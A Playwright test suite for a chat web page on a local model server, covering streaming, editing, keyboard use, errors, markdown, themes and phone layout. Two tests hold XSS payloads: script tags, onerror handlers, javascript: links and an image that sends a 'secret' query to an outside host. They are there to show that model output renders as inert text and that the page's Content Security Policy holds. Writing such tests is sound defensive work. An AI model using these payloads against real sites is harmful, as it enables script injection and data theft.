"""The page in a real Chromium: what a person does with it, with a mouse, with keys alone, in the dark, on a phone."""

from __future__ import annotations

import json
import os
import re
import shutil
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from live import Live, alphabet_assembly, echo_assembly, running

pytestmark = pytest.mark.slow

NAMES = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
ALPHABET = "abcdefghijklmnopqrstuvwxyz"
KEY = "sk-for-the-page"
CHAT = "**/v1/chat/completions"
WIDE, PHONE = {"width": 1400, "height": 880}, {"width": 390, "height": 780}


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed: the page is not tried")
    path = next((found for name in NAMES if (found := shutil.which(name))), None)
    if path is None:
        pytest.skip("no Chromium on this system (apt-get install chromium): the page is not tried")
    with playwright.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield browser
        browser.close()


Open = Callable[..., Any]


@pytest.fixture
def visit(chromium: Any) -> Iterator[Open]:
    """Opens a page; at the end nothing may have been logged as an error, but for what a test expects."""
    contexts: list[Any] = []
    faults: list[str] = []

    def visit(live: Live, *, viewport: dict[str, int] = WIDE, expects: str = "^$", **options: Any) -> Any:
        context = chromium.new_context(viewport=viewport, **options)
        contexts.append(context)
        opened = context.new_page()
        opened.set_default_timeout(20_000)
        opened.on("pageerror", lambda error: faults.append(str(error)))
        opened.on(
            "console",
            lambda m: faults.extend(
                [m.text] if m.type in ("error", "warning") and not re.search(expects, m.text) else []
            ),
        )
        opened.goto(live.url)
        until(opened, "document.getElementById('model').textContent !== ''")
        return opened

    yield visit
    for context in contexts:
        context.close()
    assert not faults


@pytest.fixture(scope="module")
def letters_long(alphabet: Path) -> Iterator[Live]:
    with running(alphabet_assembly(alphabet)) as live:
        yield live


@pytest.fixture(scope="module")
def unhurried(alphabet: Path) -> Iterator[Live]:
    """Random letters, a few a second, without an end."""
    with running(echo_assembly(alphabet, pace=0.05, ends=False)) as live:
        yield live


def until(page: Any, script: str, seconds: float = 20.0) -> None:
    """Waits by asking: what Playwright would plant in the page, the page's policy forbids."""
    end = time.monotonic() + seconds
    while not page.evaluate(script):
        assert time.monotonic() < end, script
        page.wait_for_timeout(50)


def sampling(page: Any, **values: object) -> None:
    """Through the settings, as a person would."""
    page.click("#show-settings")
    for name, value in values.items():
        page.fill(f"#s-{name}", str(value))
    page.click("#settings .primary")


def say(page: Any, text: str) -> None:
    page.fill("#composer-text", text)
    page.press("#composer-text", "Enter")


def done(page: Any) -> None:
    page.wait_for_selector("#send", state="visible")


def answers(page: Any) -> list[str]:
    return [text.strip() for text in page.locator(".theirs .body").all_inner_texts()]


def asked(page: Any) -> list[str]:
    return [text.strip() for text in page.locator(".mine .body").all_inner_texts()]


def stream_of(text: str, size: int = 7) -> str:
    """An answer of the model's as the server would send it."""
    head = {"id": "x", "object": "chat.completion.chunk", "created": 1, "model": "tested"}
    parts = [text[i : i + size] for i in range(0, len(text), size)]
    chunks = [
        head
        | {
            "choices": [{"index": 0, "delta": {"content": part}, "finish_reason": None}],
            "usage": {"prompt_tokens": 5, "completion_tokens": n, "total_tokens": 5 + n},
            "timings": {"at_ms": 10.0 * n},
        }
        for n, part in enumerate(parts, 1)
    ]
    times = {"queue_ms": 1, "prefill_ms": 9, "ttft_ms": 10, "decode_ms": 280, "decode_tok_s": 50, "prompt_tok_s": 500}
    last = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}], "timings": times | {"cached_tokens": 0}}
    chunks.append(head | last)
    return "".join(f"data: {json.dumps(chunk)}\n\n" for chunk in chunks) + "data: [DONE]\n\n"


def will_answer(page: Any, text: str) -> None:
    """The next answers are `text`, whatever the model would say."""
    page.unroute_all()
    page.route(CHAT, lambda route: route.fulfill(content_type="text/event-stream", body=stream_of(text)))


# -- talking ----------------------------------------------------------------------------------------------------------


def test_send_and_stream(letters: Live, visit: Open) -> None:
    page = visit(letters)
    sampling(page, temperature=0)
    sent = []
    page.on("request", lambda r: sent.append(r.post_data_json) if r.method == "POST" else None)
    say(page, "abc")
    done(page)
    assert answers(page) == [ALPHABET] and asked(page) == ["abc"]
    assert sent[0]["temperature"] == 0 and sent[0]["stream"] is True
    assert page.inner_text(".theirs .meta").startswith("27 tokens")
    assert page.inner_text("#announce") == ALPHABET
    assert re.search(r"^\d+ of 128 tokens", page.inner_text("#context"))
    say(page, "x")
    done(page)
    assert answers(page) == [ALPHABET, ALPHABET] and len(sent[1]["messages"]) == 3


def test_text_grows_and_stop_keeps_what_came(unhurried: Live, visit: Open) -> None:
    page = visit(unhurried)
    say(page, "go on")
    page.wait_for_selector(".growing .body p")
    early = len(answers(page)[0])
    until(page, f"document.querySelector('.theirs .body').innerText.length > {early + 5}")
    assert page.is_visible("#stop") and page.is_hidden("#send")
    page.click("#stop")
    done(page)
    unhurried.wait(unhurried.idle, 3.0, "the answer ended on the server too")
    assert len(answers(page)[0]) > early and "stopped by you" in page.inner_text(".theirs .meta")
    assert page.evaluate("document.activeElement.id") == "composer-text"


def test_edit_and_send_again(letters: Live, visit: Open) -> None:
    page = visit(letters)
    sampling(page, temperature=0, max_tokens=3)
    for text in ("one", "two"):
        say(page, text)
        done(page)
    sent = []
    page.on("request", lambda r: sent.append(r.post_data_json) if r.method == "POST" else None)
    page.locator(".mine").first.hover()
    page.locator(".mine").first.get_by_role("button", name="Edit").click()
    field = page.get_by_role("textbox", name="Edit this message")
    assert field.input_value() == "one"
    field.fill("another")
    page.locator(".editing").get_by_role("button", name="Send").click()
    done(page)
    assert asked(page) == ["another"] and answers(page) == ["abc"]
    assert sent[0]["messages"] == [{"role": "user", "content": "another"}]
    page.locator(".mine").first.get_by_role("button", name="Edit").click()
    page.get_by_role("textbox", name="Edit this message").press("Escape")
    assert asked(page) == ["another"] and answers(page) == ["abc"] and len(sent) == 1


def test_answer_again_and_settings_and_system_prompt(letters: Live, visit: Open) -> None:
    page = visit(letters)
    sent = []
    page.on("request", lambda r: sent.append(r.post_data_json) if r.method == "POST" else None)
    sampling(page, temperature=0, max_tokens=3, seed=7, stop="q, r")
    say(page, "a")
    done(page)
    assert answers(page) == ["abc"] and "cut at the most tokens" in page.inner_text(".theirs .meta")
    page.click("#show-settings")
    page.fill("#system", "Be brief.")
    page.fill("#s-max_tokens", "5")
    page.keyboard.press("Escape")
    page.click("#again")
    done(page)
    assert answers(page) == ["abcde"] and len(sent) == 2
    assert sent[1]["messages"] == [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "a"}]
    assert sent[1] | {"seed": 7, "max_tokens": 5, "stop": ["q", "r"]} == sent[1]


def test_conversations_are_kept_opened_and_deleted(letters: Live, visit: Open) -> None:
    page = visit(letters)
    sampling(page, temperature=0, max_tokens=3)
    say(page, "w")
    done(page)
    page.click("#new")
    assert answers(page) == []
    say(page, "y")
    done(page)
    page.reload()
    titles = page.locator("#conversations .title")
    assert titles.all_inner_texts() == ["y", "w"]
    titles.nth(1).click()
    assert asked(page) == ["w"] and answers(page) == ["abc"]
    page.locator("#conversations li").nth(1).hover()
    delete = page.locator("#conversations li").nth(1).locator(".quiet")
    delete.click()
    assert delete.inner_text() == "Really?" and titles.count() == 2
    delete.click()
    assert titles.all_inner_texts() == ["y"] and answers(page) == []


def test_keys_alone(letters: Live, visit: Open) -> None:
    page = visit(letters)
    key = page.keyboard.press
    key("Alt+KeyS")
    for _ in range(40):
        if page.evaluate("document.activeElement.id") == "s-temperature":
            break
        key("Tab")
    key("Control+A")
    page.keyboard.type("0")
    key("Enter")
    assert page.locator("dialog[open]").count() == 0
    page.focus("#composer-text")
    page.keyboard.type("p")
    key("Shift+Enter")
    page.keyboard.type("q")
    key("Enter")
    done(page)
    assert asked(page) == ["p\nq"] and answers(page) == [ALPHABET]
    key("ArrowUp")
    key("Control+A")
    page.keyboard.type("x")
    key("Enter")
    done(page)
    assert asked(page) == ["x"] and answers(page) == [ALPHABET]
    key("Alt+KeyR")
    done(page)
    key("Alt+KeyN")
    assert answers(page) == [] and page.evaluate("document.activeElement.id") == "composer-text"
    was = page.evaluate("document.body.className")
    for name, state in (("KeyC", "with-list"), ("KeyP", "with-pace")):
        key(f"Alt+{name}")
        assert (state in page.evaluate("document.body.className")) != (state in was)
    key("Alt+KeyK")
    assert page.get_by_role("dialog", name="Keyboard").is_visible()
    key("Escape")
    key("Alt+KeyD")
    assert page.evaluate("document.documentElement.dataset.theme") == "dark"


def test_escape_stops(unhurried: Live, visit: Open) -> None:
    page = visit(unhurried)
    say(page, "go on")
    page.wait_for_selector(".growing .body p")
    page.keyboard.press("Escape")
    done(page)
    unhurried.wait(unhurried.idle, 3.0, "the answer ended on the server too")


def test_the_focus_goes_in_the_order_of_the_page(letters: Live, visit: Open) -> None:
    page = visit(letters)
    page.focus(".skip")
    seen: list[str] = []
    for _ in range(9):
        if seen:
            page.keyboard.press("Tab")
        seen.append(page.evaluate("document.activeElement.id || document.activeElement.className"))
        shown = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
        assert shown == "solid", seen
    order = ["skip", "show-list", "show-pace", "show-settings", "theme", "show-keys", "new", "composer-text", "send"]
    assert seen == order


# -- trouble ----------------------------------------------------------------------------------------------------------


def test_a_key_is_asked_for_and_kept_for_this_tab(alphabet: Path, visit: Open) -> None:
    with running(alphabet_assembly(alphabet), api_keys=(KEY,)) as live:
        page = visit(live, expects="status of 401")
        dialog = page.get_by_role("dialog", name="This server needs a key")
        dialog.wait_for()
        assert page.inner_text("#model") == "a key is needed" and "key is needed" in page.inner_text("#ask-key-why")
        page.keyboard.press("Escape")
        say(page, "x")
        dialog.wait_for()
        page.keyboard.type("sk-wrong")
        page.keyboard.press("Enter")
        until(page, "document.getElementById('ask-key-why').textContent.includes('not known')")
        dialog.wait_for()
        page.fill("#ask-key-field", KEY)
        page.keyboard.press("Enter")
        page.wait_for_selector(".theirs .meta")
        assert page.inner_text("#model") == "tested" and not page.locator(".problem").count()
        page.reload()
        until(page, "document.getElementById('model').textContent === 'tested'")
        assert KEY not in page.evaluate("JSON.stringify(localStorage)")


def test_what_the_server_refuses_is_said_in_full(letters: Live, visit: Open) -> None:
    page = visit(letters, expects="status of 4")
    page.click("#show-settings")
    page.fill("#s-top_p", "3")
    page.click("#settings .primary")
    assert page.locator("dialog[open]").count() == 1, "the field itself says that 3 is too much"
    page.keyboard.press("Escape")
    say(page, "x")
    box = page.get_by_role("alert")
    text = box.inner_text()
    assert "refused" in text and "top_p" in text and "Settings" in text and "request req-" in text
    sampling(page, temperature=0, top_p="")
    box.get_by_role("button", name="Send again").click()
    done(page)
    assert answers(page) == [ALPHABET] and not page.locator(".problem").count()
    say(page, "too long " * 40)
    assert "new conversation" in box.inner_text() and "context" in box.inner_text()


def test_a_busy_server_says_when_and_a_lost_one_how(letters: Live, visit: Open) -> None:
    page = visit(letters, expects="status of 429|ERR_FAILED|ERR_ABORTED")
    error = {"error": {"message": "the queue is full: 80 of 80 places are taken", "code": "rate_limit_exceeded"}}
    headers = {"retry-after": "2", "x-request-id": "req-7"}
    page.route(CHAT, lambda route: route.fulfill(status=429, headers=headers, json=error))
    say(page, "x")
    box = page.get_by_role("alert")
    assert "80 of 80" in box.inner_text() and "in 2 s" in box.inner_text() and "req-7" in box.inner_text()
    box.get_by_role("button", name="Send again", exact=True).wait_for()
    page.unroute_all()
    page.route(CHAT, lambda route: route.abort())
    box.get_by_role("button", name="Send again").click()
    page.get_by_role("heading", name="cannot be reached").wait_for()
    assert "legato serve" in box.inner_text()
    page.unroute_all()
    half = stream_of("half an answer").split("data: [DONE]")[0]
    page.route(CHAT, lambda route: route.fulfill(content_type="text/event-stream", body=half))
    box.get_by_role("button", name="Send again").click()
    page.get_by_role("heading", name="The connection broke").wait_for()
    assert answers(page) == ["half an answer"] and "broken off" in page.inner_text(".theirs .meta")


ATTACKS = """<img src=x onerror="window.harm=1"> <script>window.harm=2</script>

[click](javascript:window.harm=3) [tab](\tjavascript:window.harm=4) <a href="javascript:window.harm=5">x</a>

![pixel](https://elsewhere.invalid/?q=secret) <svg onload=window.harm=6> <iframe srcdoc="<script>parent.harm=7</script>">

```html" onmouseover="window.harm=8
</code></pre><img src=x onerror=window.harm=9>
```

| <img src=x onerror=window.harm=10> | b |
|---|---|
| [y](data:text/html,<script>window.harm=11</script>) | `<b onclick=window.harm=12>` |

<style>* { display: none }</style> <form action=https://elsewhere.invalid><button>ok</button></form> [good](https://good.invalid/)
"""  # noqa: E501


def test_what_a_model_writes_is_text_and_nothing_else(letters: Live, visit: Open) -> None:
    page = visit(letters)
    abroad: list[str] = []
    page.on("request", lambda r: None if r.url.startswith(letters.url) else abroad.append(r.url))
    will_answer(page, ATTACKS)
    say(page, ATTACKS)
    done(page)
    for element in page.locator(".theirs a, .theirs .dead").all():
        if element.get_attribute("href") is None:
            element.click()
    page.locator(".code .top span").first.hover()
    page.reload()  # what is kept is as harmless
    page.locator("#conversations .title").first.click()
    assert page.evaluate("window.harm") is None and abroad == []
    tags = page.evaluate("[...new Set([...document.querySelectorAll('.thread *')].map((e) => e.localName))]")
    assert not {"img", "script", "iframe", "svg", "style", "form", "b"} & set(tags), tags
    links = page.evaluate("[...document.querySelectorAll('.theirs a')].map((a) => [a.href, a.rel, a.target])")
    hosts = ["https://elsewhere.invalid/?q=secret", "https://elsewhere.invalid/", "https://good.invalid/"]
    assert links == [[host, "noopener noreferrer nofollow", "_blank"] for host in hosts]
    assert "<script>window.harm=2</script>" in answers(page)[0]


def test_the_policy_holds_against_the_page_itself(letters: Live, visit: Open) -> None:
    """Were there a hole in the renderer, the browser would still refuse."""
    page = visit(letters, expects="Content Security Policy|Trusted|ERR_BLOCKED|Refused|violates")
    refused = page.evaluate(
        """async () => {
          const out = [];
          try { document.body.innerHTML = '<p>x</p>'; } catch (e) { out.push(e.name); }
          try { (0, eval)('1'); } catch (e) { out.push(e.name); }
          const script = document.createElement('script');
          try { script.textContent = 'window.harm = 1'; document.head.append(script); } catch (e) { out.push(e.name); }
          const image = new Image();
          out.push(await new Promise((done) => {
            image.onload = () => done('loaded'); image.onerror = () => done('blocked');
            image.src = 'https://elsewhere.invalid/x.png'; }));
          out.push(await fetch('https://elsewhere.invalid/').then(() => 'fetched', () => 'blocked'));
          document.body.setAttribute('style', 'color: rgb(1, 2, 3)');
          out.push(getComputedStyle(document.body).color);
          return out;
        }"""
    )
    assert page.evaluate("window.harm") is None
    assert refused.count("blocked") == 2 and refused[-1] != "rgb(1, 2, 3)" and "TypeError" in refused


# -- looking ----------------------------------------------------------------------------------------------------------

WRITTEN = """## Three reasons

Reading **slowly** is a way of *listening*:

1. A line has a pulse, and `scan()` finds it.
2. Meaning comes in layers:
   - sound,
   - image,
   - thought.
3. It is short. See [more](https://good.invalid/).

```python
def scan(line: str) -> list[int]:
    return [len(word) for word in line.split()]
```

| form | lines |
|---|--:|
| sonnet | 14 |
| haiku | 3 |

> Brevity is the soul of wit.
"""


def test_markdown_is_shown_and_copied(letters: Live, visit: Open) -> None:
    page = visit(letters, permissions=["clipboard-read", "clipboard-write"])
    will_answer(page, WRITTEN)
    say(page, "why poetry?")
    done(page)
    body = page.locator(".theirs .body")
    counts = {tag: body.locator(tag).count() for tag in ("h4", "strong", "em", "ol", "ul", "li", "pre", "table", "a")}
    expected = {"h4": 1, "strong": 1, "em": 1, "ol": 1, "ul": 1, "li": 6, "pre": 1, "table": 1, "a": 1}
    assert counts == expected and body.locator("blockquote").count() == 1
    page.get_by_role("button", name="Copy code").click()
    assert page.evaluate("navigator.clipboard.readText()").startswith("def scan(line: str)")
    page.locator(".theirs footer").get_by_role("button", name="Copy this message").click()
    assert page.evaluate("navigator.clipboard.readText()") == WRITTEN


def test_the_pace_is_plotted_and_can_be_read(letters: Live, visit: Open) -> None:
    page = visit(letters)
    figures = {"read_gb_s": 10.0, "weight_bytes": 50_000_000, "kv_bytes_per_token": 10_000}
    stats = letters.stats() | {"wall": figures, "running": 2, "waiting": 1, "tok_s": 33.0}
    page.route("**/v1/engine/stats", lambda route: route.fulfill(json=stats))
    page.route(CHAT, lambda r: r.fulfill(content_type="text/event-stream", body=stream_of("x" * 200)))
    say(page, "x")
    done(page)
    page.wait_for_selector("#plot .dots", state="attached")
    page.wait_for_selector("#plot .wall", state="attached")
    dots = page.get_attribute("#plot .dots", "d")
    assert dots.count("M") == 28
    label = page.get_attribute("#plot svg", "aria-label")
    assert "28 tokens, positions 6 to 33, median 10.0 ms; the wall at position 33 is 5.03 ms" in label
    page.focus("#plot svg")
    page.keyboard.press("ArrowLeft")
    assert page.inner_text("#reading") == "Position 33: 10.0 ms, 2.0 times the wall (5.03 ms)"
    page.keyboard.press("Home")
    assert page.inner_text("#reading").startswith("Position 6: 10.0 ms")
    box = page.locator("#plot").bounding_box()
    page.mouse.move(box["x"] + 0.5 * box["width"], box["y"] + 60)
    assert page.inner_text("#reading").startswith("Position ")
    split = page.inner_text("#split")
    assert "Queue" in split and "Keys and values" in split and "140 ms" in split
    now = page.inner_text("#now")
    assert re.search(r"Running\s+2", now) and re.search(r"Waiting\s+1", now) and "33.0" in now
    assert re.search(r"Free\s+\d", page.inner_text("#cache")) and "10.0 GB/s" in page.inner_text("#machine")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_dark_and_light(letters: Live, visit: Open, tmp_path: Path, scheme: str) -> None:
    page = visit(letters, color_scheme=scheme)
    will_answer(page, WRITTEN)
    say(page, "Why should one read poetry?")
    done(page)
    page.wait_for_timeout(400)
    shots = Path(os.environ.get("LEGATO_PAGE_SHOTS", tmp_path))
    page.screenshot(path=shots / f"page-{scheme}.png")
    light = page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(251, 250, 247)"
    assert light == (scheme == "light")
    page.click("#theme")
    assert (page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(251, 250, 247)") != light
    page.reload()
    assert (page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(251, 250, 247)") != light


def test_a_narrow_screen(letters: Live, visit: Open, tmp_path: Path) -> None:
    page = visit(letters, viewport=PHONE, has_touch=True)
    assert page.is_hidden("#list") and page.is_hidden("#pace")
    will_answer(page, WRITTEN)
    say(page, "Why should one read poetry?")
    done(page)
    assert page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
    shots = Path(os.environ.get("LEGATO_PAGE_SHOTS", tmp_path))
    page.screenshot(path=shots / "page-narrow.png")
    page.tap("#show-pace")
    page.wait_for_selector("#plot .dots", state="attached")
    assert page.evaluate("document.documentElement.scrollWidth") == PHONE["width"]
    page.screenshot(path=shots / "page-narrow-pace.png")
    page.keyboard.press("Escape")
    assert page.is_hidden("#pace")
    page.tap("#show-list")
    page.locator("#conversations .title").first.tap()
    assert page.is_hidden("#list")
    heights = page.evaluate("[...document.querySelectorAll('.bar button, #send')].map((b) => b.offsetHeight)")
    assert len(heights) == 6 and min(heights) >= 32


def test_a_server_that_still_loads(letters: Live, visit: Open) -> None:
    page = visit(letters, expects="status of 503")
    error = {"error": {"message": "the model is being loaded", "code": "loading"}}
    page.route("**/v1/engine/stats", lambda route: route.fulfill(status=503, json=error))
    until(page, "document.getElementById('model').textContent === 'not ready'")
    page.unroute_all()
    until(page, "document.getElementById('model').textContent === 'tested'")
